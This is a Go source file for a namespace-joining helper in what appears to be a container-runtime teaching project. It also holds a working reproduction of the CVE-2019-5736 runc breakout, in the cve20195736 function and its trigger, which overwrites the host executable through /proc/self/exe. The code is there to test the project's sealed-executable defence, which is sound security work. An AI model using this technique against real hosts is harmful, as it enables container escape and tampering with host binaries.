//go:build linux

// Command nsjoin runs a command inside the namespaces of a running process,
// as `nsenter -t PID -a` does, through package nsenter: it is that
// package's test helper and the pattern `berth exec` follows.
//
//	nsjoin [-t PID] [-ns user,mnt,...] [-path KIND=FILE]... [-cgroup PATH]
//	       [-preserve-fds N] [-cwd DIR] [-probe] [-v] [--] COMMAND [ARG...]
//
// The same binary plays two parts. As the caller it starts a nsenter.Cmd,
// puts the final process in a cgroup (-cgroup, a path such as berth's
// /berth/ID) before it runs, lets it continue and sends it the command to
// run over the socket. As the final process (nsenter.Joined) it reads
// that, checks and enters the working directory, marks every descriptor
// but the preserved ones close-on-exec and executes the command; -probe
// first prints what the defences look like from inside.
//
// Exit status: the command's (128+N for a signal), 125 when joining
// failed, 126 when the command could not be executed, 127 when it was
// not found.
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"os"
	"os/signal"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"berth/01-uts/spine"
	"berth/01-uts/spine/sealexe"
	"berth/06-cgroups/cgroup"
	"berth/09-full/nsenter"
)

// order is what the caller sends the final process after Continue.
type order struct {
	Args        []string `json:"args"`
	Env         []string `json:"env"`
	Cwd         string   `json:"cwd,omitempty"`
	PreserveFDs int      `json:"preserveFds"`
	Probe       bool     `json:"probe,omitempty"`
}

// reply is the final process's answer when the command did not start;
// when it did, the caller reads EOF instead (the socket is close-on-exec).
type reply struct {
	Error string `json:"error"`
	Code  int    `json:"code"`
}

func main() {
	if nsenter.Joined() {
		os.Exit(final())
	}
	if len(os.Args) == 2 && strings.HasSuffix(os.Args[1], cveSuffix) {
		os.Exit(cve20195736(os.Args[1]))
	}
	os.Exit(caller())
}

type pathFlags map[nsenter.Namespace]string

func (p pathFlags) String() string { return fmt.Sprint(map[nsenter.Namespace]string(p)) }
func (p pathFlags) Set(s string) error {
	k, v, ok := strings.Cut(s, "=")
	if !ok || v == "" {
		return fmt.Errorf("want KIND=FILE, such as net=/run/netns/x")
	}
	p[nsenter.Namespace(k)] = v
	return nil
}

func caller() int {
	fs := flag.NewFlagSet("nsjoin", flag.ContinueOnError)
	pid := fs.Int("t", 0, "join the namespaces of process `PID`")
	kinds := fs.String("ns", "", "comma-separated `kinds` of namespace to join (default: all)")
	paths := pathFlags{}
	fs.Var(paths, "path", "join the namespace file `KIND=FILE` (repeatable)")
	cg := fs.String("cgroup", "", "put the process in cgroup `PATH` (such as /berth/ID) before it runs")
	preserve := fs.Int("preserve-fds", 0, "pass descriptors 3 to 3+`N`-1 to the command")
	cwd := fs.String("cwd", "", "working `directory` of the command, inside the namespaces")
	probe := fs.Bool("probe", false, "print what the process sees before it executes the command")
	verbose := fs.Bool("v", false, "print the constructor's steps on stderr")
	if err := fs.Parse(os.Args[1:]); err != nil {
		return 125
	}
	args := fs.Args()
	if len(args) == 0 {
		return fail(errors.New("no command: nsjoin -t PID [--] COMMAND [ARG...]"))
	}
	if *preserve < 0 {
		return fail(fmt.Errorf("-preserve-fds %d: not a count", *preserve))
	}
	t := nsenter.Target{Pid: *pid, Paths: paths}
	if *kinds != "" {
		for _, k := range strings.Split(*kinds, ",") {
			t.Namespaces = append(t.Namespaces, nsenter.Namespace(k))
		}
	}
	var extra []*os.File
	for i := 0; i < *preserve; i++ {
		extra = append(extra, os.NewFile(uintptr(3+i), "preserved-"+strconv.Itoa(3+i)))
	}

	cmd := &nsenter.Cmd{Target: t, Args: []string{"nsjoin"}, Stdin: os.Stdin, Stdout: os.Stdout, Stderr: os.Stderr, ExtraFiles: extra}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	err := cmd.Start(ctx)
	if *verbose {
		for _, line := range cmd.Trace {
			fmt.Fprintln(os.Stderr, "nsjoin:", line)
		}
	}
	if err != nil {
		return fail(err)
	}
	if *cg != "" {
		if err := joinCgroup(*cg, cmd.Pid); err != nil {
			_ = cmd.Kill()
			_, _ = cmd.Wait()
			return fail(err)
		}
	}
	conn, err := cmd.Continue()
	if err != nil {
		_ = cmd.Kill()
		_, _ = cmd.Wait()
		return fail(err)
	}
	defer conn.Close()
	// Signals for us are for the command, as with nsenter(1): those a
	// runtime passes on (spine.ForwardedSignals).
	sigs := make(chan os.Signal, 4)
	signal.Notify(sigs, spine.ForwardedSignals...)
	go func() {
		for s := range sigs {
			_ = cmd.Signal(s)
		}
	}()

	// One JSON object and nothing after it: the final process reads all
	// of it, so its socket closes on execve with nothing unread, and we
	// read EOF rather than ECONNRESET.
	msg, err := json.Marshal(order{Args: args, Env: os.Environ(), Cwd: *cwd, PreserveFDs: *preserve, Probe: *probe})
	if err == nil {
		_, err = conn.Write(msg)
	}
	if err != nil {
		_ = cmd.Kill()
		_, _ = cmd.Wait()
		return fail(fmt.Errorf("send the command: %w", err))
	}
	var r reply
	replyErr := json.NewDecoder(conn).Decode(&r)
	st, err := cmd.Wait()
	if err != nil {
		return fail(err)
	}
	if replyErr == nil {
		fmt.Fprintln(os.Stderr, "nsjoin:", r.Error)
		return r.Code
	}
	if ws, ok := st.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
		return 128 + int(ws.Signal())
	}
	return st.ExitCode()
}

// joinCgroup moves pid into berth's group at path, on v1 or v2.
func joinCgroup(path string, pid int) error {
	mode, err := cgroup.DetectMode()
	if err != nil {
		return err
	}
	g, err := cgroup.Load(mode, path)
	if err != nil {
		return fmt.Errorf("-cgroup %s: %w", path, err)
	}
	return g.Add(pid)
}

func fail(err error) int {
	fmt.Fprintln(os.Stderr, "nsjoin:", err)
	return 125
}

// final runs in the joined process: it executes the command it is sent.
func final() int {
	conn := nsenter.Conn()
	var o order
	if err := json.NewDecoder(conn).Decode(&o); err != nil {
		fmt.Fprintln(os.Stderr, "nsjoin: read the command:", err)
		return 125
	}
	if o.Probe {
		probe()
	}
	answer := func(code int, err error) int {
		msg, _ := json.Marshal(reply{Error: err.Error(), Code: code})
		if _, werr := conn.Write(msg); werr != nil {
			fmt.Fprintln(os.Stderr, "nsjoin:", err)
		}
		return code
	}
	if len(o.Args) == 0 {
		return answer(125, errors.New("no command"))
	}
	if o.Cwd != "" {
		if err := nsenter.Chdir(o.Cwd); err != nil {
			return answer(125, err)
		}
	}
	path, err := lookPath(o.Args[0], o.Env)
	if err != nil {
		return answer(127, err)
	}
	if err := nsenter.CloseExtraFDs(o.PreserveFDs); err != nil {
		return answer(125, err)
	}
	err = unix.Exec(path, o.Args, o.Env)
	code := 126
	if errors.Is(err, unix.ENOENT) {
		code = 127
	}
	return answer(code, fmt.Errorf("exec %s: %w", o.Args[0], err))
}

// lookPath finds a command as a shell would, in the PATH of env, inside
// the joined mount namespace.
func lookPath(name string, env []string) (string, error) {
	if strings.Contains(name, "/") {
		return name, nil
	}
	dirs := "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
	for _, kv := range env {
		if v, ok := strings.CutPrefix(kv, "PATH="); ok {
			dirs = v
		}
	}
	for _, d := range strings.Split(dirs, ":") {
		if d == "" {
			d = "."
		}
		p := d + "/" + name
		if st, err := os.Stat(p); err == nil && st.Mode().IsRegular() && st.Mode()&0o111 != 0 {
			return p, nil
		}
	}
	return "", fmt.Errorf("%s: command not found", name)
}

// probe prints, before the command runs, what a learner checks of the
// joined process: its cgroup (read first, before anything else could have
// moved it), its PID in the namespace, its executable and whether that is
// a sealed memfd, and whether it is dumpable.
func probe() {
	cg, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		fmt.Printf("probe cgroup error: %v\n", err)
	}
	fmt.Printf("probe cgroup %s\n", strings.Join(strings.Fields(string(cg)), " "))
	fmt.Printf("probe pid %d\n", os.Getpid())
	exe, err := os.Readlink("/proc/self/exe")
	if err != nil {
		exe = "error: " + err.Error()
	}
	fmt.Printf("probe exe %s\n", exe)
	var st unix.Stat_t
	if err := unix.Stat("/proc/self/exe", &st); err == nil {
		fmt.Printf("probe exe-inode %d:%d\n", st.Dev, st.Ino)
	}
	sealed := false
	if f, err := os.Open("/proc/self/exe"); err == nil {
		sealed = sealexe.IsSealed(f)
		f.Close()
	}
	fmt.Printf("probe exe-sealed %t\n", sealed)
	d, err := unix.PrctlRetInt(unix.PR_GET_DUMPABLE, 0, 0, 0, 0)
	if err != nil {
		fmt.Printf("probe dumpable error: %v\n", err)
	} else {
		fmt.Printf("probe dumpable %d\n", d)
	}
}

// cveSuffix marks the file name of the CVE-2019-5736 reproduction: a
// script in the container that starts with "#!/proc/self/exe". When the
// exec'd process runs it, the kernel runs the interpreter /proc/self/exe,
// that is this binary once more, now inside the container and dumpable,
// with the script's path as its one argument.
const cveSuffix = ".cve-2019-5736"

// cve20195736 is the attack's second half, what the container would do.
// It opens its own executable with O_PATH (allowed: the file is not
// written) and keeps that descriptor across an execve of sh, which then
// tries to append to the file through it. Before the exec's processes are
// gone the kernel refuses a write to a file someone executes (ETXTBSY),
// so sh retries for a while; then the write goes to the host's binary,
// unless that was never what ran. The outcome is written to SCRIPT.out.
func cve20195736(script string) int {
	fd, err := unix.Open("/proc/self/exe", unix.O_PATH, 0) // no O_CLOEXEC: sh must inherit it
	if err != nil {
		fmt.Fprintln(os.Stderr, "open /proc/self/exe:", err)
		return 1
	}
	loop := `out=$1.out; fd=$2
for i in $(seq 200); do
	if msg=$( { echo '#pwned by the container' | cat >>/proc/self/fd/$fd; } 2>&1 ); then
		echo wrote >"$out"; exit 0
	fi
	case $msg in *busy*) sleep 0.05;; *) echo "refused: $msg" >"$out"; exit 0;; esac
done
echo "gave up: $msg" >"$out"`
	// In the background, so that the exec returns and its processes exit.
	sh := "(" + loop + ") </dev/null >/dev/null 2>&1 &"
	err = unix.Exec("/bin/sh", []string{"sh", "-c", sh, "sh", script, strconv.Itoa(fd)}, os.Environ())
	fmt.Fprintln(os.Stderr, "exec sh:", err)
	return 1
}
